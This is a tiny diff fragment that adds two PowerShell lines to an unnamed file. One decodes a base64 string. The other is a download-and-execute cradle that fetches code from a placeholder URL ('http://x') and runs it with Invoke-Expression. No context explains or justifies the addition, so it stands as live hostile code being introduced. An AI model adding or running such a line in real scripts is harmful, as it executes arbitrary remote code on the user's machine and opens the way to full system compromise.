@@ -1,0 +1,2 @@
+	$x = [Convert]::FromBase64String("aQ==")
+Invoke-Expression (New-Object Net.WebClient).DownloadString("http://x")
